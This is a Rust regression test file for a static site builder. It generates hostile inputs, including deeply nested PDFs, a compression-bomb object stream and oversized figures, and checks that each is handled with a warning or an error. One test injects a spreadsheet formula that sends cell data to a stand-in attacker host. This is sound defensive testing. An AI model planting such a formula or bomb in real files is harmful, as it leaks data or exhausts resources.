//! Hostile files: inputs of under a few megabytes that once crashed the build, ate the machine's
//! memory or took time growing with their square. Each is generated here, as described when it
//! was found, and must now cost a warning (a document) or a located error (text the author
//! wrote), quickly, with the build's usual exit code.

use std::path::Path;
use std::process::Command;

use super::common::{copy_fixture, on_site, pdf, with_document, write};

/// An object stream (`/Type /ObjStm`) whose content inflates to `mib` MiB of spaces.
fn inflating(mib: usize) -> Vec<u8> {
    use std::io::Write;
    let mut packer = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
    let spaces = vec![b' '; 1 << 20];
    packer.write_all(b"5 0 ").unwrap();
    for _ in 0..mib {
        packer.write_all(&spaces).unwrap();
    }
    let packed = packer.finish().unwrap();
    let mut stream = format!(
        "<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length {} >>\nstream\n",
        packed.len()
    )
    .into_bytes();
    stream.extend(packed);
    stream.extend(b"\nendstream");
    stream
}

/// Runs `command` on the site and gives its exit code and what it printed on stderr.
fn run(command: &str, root: &Path) -> (Option<i32>, String) {
    let out = on_site(command, root, &[]);
    (
        out.status.code(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

/// A document that cannot be read is a warning naming it: build and check go on and succeed.
fn warned_of(root: &Path, why: &str) {
    for command in ["build", "check"] {
        let (code, stderr) = run(command, root);
        assert_eq!(code, Some(0), "{command}: {stderr}");
        let want = "document file \"documents/hostile.pdf\" cannot be read: ";
        assert!(stderr.contains(want), "{command}: {stderr}");
        assert!(stderr.contains(why), "{command}: {stderr}");
    }
}

#[test]
fn regression_a_deeply_nested_pdf_is_a_warning_not_a_crash() {
    let arrays = format!("{}{}", "[".repeat(200_000), "]".repeat(200_000));
    let site = with_document(&pdf(arrays.as_bytes(), 0));
    warned_of(site.path(), "too large or too complex to read safely");
    let dictionaries = format!("{}{}", "<< /A ".repeat(200_000), ">>".repeat(200_000));
    let site = with_document(&pdf(dictionaries.as_bytes(), 0));
    warned_of(site.path(), "too large or too complex to read safely");
}

#[test]
fn regression_an_inflating_pdf_builds_in_under_400_mib() {
    let site = with_document(&pdf(&inflating(512), 0));
    // The whole build, the reader of the PDF included, runs with its memory capped.
    let out = Command::new("prlimit")
        .arg(format!("--as={}", 400u64 << 20))
        .arg(env!("CARGO_BIN_EXE_sendsite"))
        .args(["build", "--root"])
        .arg(site.path())
        .output()
        .expect("prlimit (util-linux) runs the build with a memory cap");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{stderr}");
    assert!(site.path().join("public/documents/hostile.pdf").is_file());
}

#[test]
fn regression_a_pdf_of_400000_objects_is_refused_at_once() {
    let site = with_document(&pdf(b"<< >>", 400_000));
    warned_of(site.path(), "it has 400004 objects, more than the 25000");
}

#[test]
fn regression_figures_too_large_to_chart_are_errors_where_written() {
    let site = copy_fixture("framework-2023");
    let measures = site.path().join("content/measures");
    let md = measures.join("longest-wait.md");
    let text = std::fs::read_to_string(&md).unwrap();
    let text = text
        .replacen("target = 20", "target = -1.7e308", 1)
        .replacen("value = 45 }", "value = 1.5e308 }", 1);
    std::fs::write(&md, text).unwrap();
    let csv = measures.join("ehc-plans-20-weeks.csv");
    let text = std::fs::read_to_string(&csv).unwrap();
    let huge = "9".repeat(308);
    std::fs::write(
        &csv,
        text.replacen("2025-08,58.5,", &format!("2025-08,{huge},"), 1),
    )
    .unwrap();
    for command in ["build", "check"] {
        let (code, stderr) = run(command, site.path());
        assert_eq!(code, Some(1), "{command}: {stderr}");
        for want in [
            "error: content/measures/longest-wait.md:4:10: target: -1.7e308 is too large a figure to show or chart",
            "error: content/measures/longest-wait.md:11:31: value: 1.5e308 is too large a figure to show or chart",
            "error: content/measures/ehc-plans-20-weeks.csv:3:1: row 3, column 2 (value): 1e308 is too large a figure to show or chart",
        ] {
            assert!(stderr.contains(want), "{command}: {want}\n{stderr}");
        }
        assert!(!stderr.contains("template"), "{stderr}");
    }
}

#[test]
fn regression_bodies_nested_past_the_limit_are_errors_at_their_line() {
    for (what, body) in [
        ("list markers", format!("{}x\n", "- ".repeat(100_000))),
        ("quotes", format!("{} x\n", ">".repeat(100_000))),
        ("HTML", format!("{}x\n", "<div>".repeat(100_000))),
    ] {
        let site = copy_fixture("small");
        let page = site.path().join("content/pages/about.md");
        let text = std::fs::read_to_string(&page).unwrap();
        std::fs::write(&page, format!("{text}\n{body}")).unwrap();
        let line = text.lines().count() + 2;
        let (code, stderr) = run("build", site.path());
        assert_eq!(code, Some(1), "{what}: {stderr}");
        let at = format!("error: content/pages/about.md:{line}:");
        assert!(stderr.contains(&at), "{what}: {at}\n{stderr}");
        assert!(
            stderr.contains("nested more than 100 deep"),
            "{what}: {stderr}"
        );
        assert!(
            stderr.len() < 2_000,
            "the message shows part of the line: {stderr}"
        );
    }
}

#[test]
fn regression_many_bad_rows_of_figures_are_reported_in_one_pass() {
    let site = copy_fixture("framework-2023");
    let csv = site.path().join("content/measures/ehc-plans-20-weeks.csv");
    let rows: String = (0..100_000).map(|i| format!("2025-13,{i}\n")).collect();
    write(
        site.path(),
        "content/measures/ehc-plans-20-weeks.csv",
        &format!("date,value\n{rows}"),
    );
    assert!(csv.is_file());
    let (code, stderr) = run("check", site.path());
    assert_eq!(code, Some(1));
    assert!(
        stderr.contains("ehc-plans-20-weeks.csv:100001:1: row 100001, column 1 (date)"),
        "{}",
        &stderr[stderr.len().saturating_sub(2000)..]
    );
}

#[test]
fn regression_a_note_a_spreadsheet_would_run_is_published_as_text() {
    let site = copy_fixture("framework-2023");
    let csv = site.path().join("content/measures/ehc-plans-20-weeks.csv");
    let text = std::fs::read_to_string(&csv).unwrap();
    let formula = r#"2025-08,58.5,"=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")""#;
    std::fs::write(&csv, text.replacen("2025-08,58.5,", formula, 1)).unwrap();
    let (code, stderr) = run("build", site.path());
    assert_eq!(code, Some(0), "{stderr}");
    assert!(stderr.contains("warning: content/measures/ehc-plans-20-weeks.csv:3:1: this note starts like a spreadsheet formula"), "{stderr}");
    let published =
        std::fs::read_to_string(site.path().join("public/measures/ehc-plans-20-weeks.csv"))
            .unwrap();
    assert!(
        published.contains(r#"2025-08,58.5,"'=HYPERLINK("#),
        "{published}"
    );
    assert!(
        !published.contains(",=") && !published.contains(",\"="),
        "{published}"
    );
}
